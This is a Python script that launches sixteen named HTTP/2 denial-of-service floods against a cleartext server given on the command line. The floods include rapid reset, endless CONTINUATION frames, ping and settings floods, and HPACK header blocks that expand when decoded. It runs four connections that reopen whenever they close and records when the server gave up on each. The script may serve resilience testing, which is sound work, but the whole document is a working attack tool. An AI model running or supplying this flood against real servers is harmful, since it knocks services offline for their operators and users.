"""Attacks over HTTP/2 in the clear: `flood.py HOST ATTACK SECONDS`. Frames that cost the sender next to nothing, on four connections
at once, each opened anew when it is closed. Says at the end after how many seconds each was closed by the server, of those that were."""
import select, socket, sys, threading, time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS, PADDED = 1, 1, 4, 8
CONNECTIONS, FRAMES, WAVE = 4, 20_000, 100


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def number(n, prefix=7):
    most = (1 << prefix) - 1
    if n < most:
        return bytes([n])
    n, out = n - most, bytearray([most])
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out) + bytes([n])


def field(name, value, first=b"\0"):
    return first + number(len(name)) + name + number(len(value)) + value


def head(host, method=b"GET"):
    pairs = [(b":method", method), (b":scheme", b"http"), (b":authority", host), (b":path", b"/slow")]
    return b"".join(field(name, value) for name, value in pairs)


def attack(name, host):
    """What is sent first, and the frames that follow, numbered."""
    whole, block = END_STREAM | END_HEADERS, head(host)
    opened = frame(HEADERS, END_HEADERS, 1, head(host, b"POST"))
    reset = lambda stream: frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
    table = block + field(b"x", b"y" * 3000, b"\x40")
    bomb = block + b"\xbe" * 4000
    return {
        "rapid reset": (b"", lambda n: frame(HEADERS, whole, 2 * n + 1, block) + reset(2 * n + 1)),
        "resets by our own faults": (b"", lambda n: frame(HEADERS, whole, 2 * n + 1, block) + frame(WINDOW_UPDATE, 0, 2 * n + 1, bytes(4))),
        "streams beyond the limit": (b"", lambda n: frame(HEADERS, whole, 2 * n + 1, block)),
        "CONTINUATION without end": (frame(HEADERS, END_STREAM, 1, block), lambda n: frame(CONTINUATION, 0, 1, field(b"x", b"y" * 1000))),
        "empty CONTINUATION without end": (frame(HEADERS, END_STREAM, 1, block), lambda n: frame(CONTINUATION, 0, 1)),
        "settings": (b"", lambda n: frame(SETTINGS, 0, 0, bytes([0, 3, 0, 0, 0, 100]))),
        "windows that grow and shrink": (opened, lambda n: frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, n % 2, 0]))),
        "pings": (b"", lambda n: frame(PING, 0, 0, n.to_bytes(8, "big"))),
        "acknowledged pings": (b"", lambda n: frame(PING, ACK, 0, n.to_bytes(8, "big"))),
        "empty DATA": (opened, lambda n: frame(DATA, 0, 1)),
        "DATA that is all padding": (opened, lambda n: frame(DATA, PADDED, 1, bytes([2, 0, 0]))),
        "priorities": (b"", lambda n: frame(PRIORITY, 0, 2 * n + 1, bytes([0, 0, 0, 0, 9]))),
        "window updates": (opened, lambda n: frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))),
        "frames of an unknown type": (b"", lambda n: frame(0xFE, 0, 0, bytes(100))),
        "blocks that grow when they are read": (frame(HEADERS, whole, 1, table), lambda n: frame(HEADERS, whole, 2 * n + 3, bomb)),
        "tables of a new size for each request": (
            b"",
            lambda n: frame(HEADERS, whole, 2 * n + 1, (b"\x20" if n % 2 == 0 else b"\x3f\xe1\x1f") + block) + reset(2 * n + 1),
        ),
    }[name]


def connection(host, first, waves, end, told):
    """Until it is closed, or all is sent, or the time is over."""
    with socket.create_connection((host, 80)) as peer:
        began = time.monotonic()
        peer.setblocking(False)
        left = iter([b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + first, *waves])
        out = b""
        while time.monotonic() < end:
            out = out or next(left, None)
            if out is None:
                return
            readable, writable, _ = select.select([peer], [peer], [], 0.1)
            try:
                if readable and not peer.recv(1 << 16):
                    raise ConnectionError
                if writable:
                    out = out[peer.send(out):]
            except BlockingIOError:
                pass
            except OSError:
                told.append(time.monotonic() - began)
                return


def attacker(host, first, waves, end, told):
    while time.monotonic() < end:
        try:
            connection(host, first, waves, end, told)
        except OSError:
            time.sleep(0.05)


def main():
    host, name, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    first, wave = attack(name, host.encode())
    waves = [b"".join(map(wave, range(n, n + WAVE))) for n in range(0, FRAMES, WAVE)]
    told, end = [], time.monotonic() + seconds
    print("ready", flush=True)
    threads = [threading.Thread(target=attacker, args=(host, first, waves, end, told)) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(*told, flush=True)


main()
